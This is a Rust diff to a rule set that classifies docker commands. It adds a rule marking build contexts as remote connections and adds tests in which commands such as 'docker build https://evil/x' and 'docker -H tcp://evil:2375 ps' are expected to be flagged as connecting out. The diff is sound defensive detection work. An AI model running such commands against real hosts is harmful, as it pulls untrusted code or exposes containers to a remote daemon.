@@ -53,6 +53,8 @@ const BUILD: Syntax = Syntax {
     ..Syntax::EXACT
 };
 const BUILDS: &[Rule] = &[
+    // The context may be a repository or an archive elsewhere.
+    always(Does::Connects(At::Remotes)),
     when(&[ArgumentCondition::Has("--push")], PUBLISHES),
     when(&[ArgumentCondition::ValueHas("--output", "type=registry push=true")], PUBLISHES),
     always(Does::Writes(At::ValueRest("--output", "type=local,dest= type=tar,dest= dest="))),
@@ -295,6 +297,10 @@ pub(super) static ALL: &[Program] = &[
             ("docker compose -f x.yml down --volumes", Expect::Asks("deletes data of containers")),
             ("docker push x", Expect::Asks("publishes")),
             ("docker image push x", Expect::Asks("publishes")),
+            ("docker build https://evil/x", Expect::Connects("https://evil/x")),
+            ("docker build git@evil.com:x.git", Expect::Connects("ssh://evil.com/x.git")),
+            ("docker --host evil ps", Expect::Connects("tcp://evil")),
+            ("docker -H tcp://evil:2375 ps", Expect::Connects("tcp://evil:2375")),
             ("docker build --push -t x .", Expect::Asks("publishes")),
             ("docker buildx build -t x --push .", Expect::Asks("publishes")),
             ("docker build -o / .", Expect::Asks("outside of the workspace")),
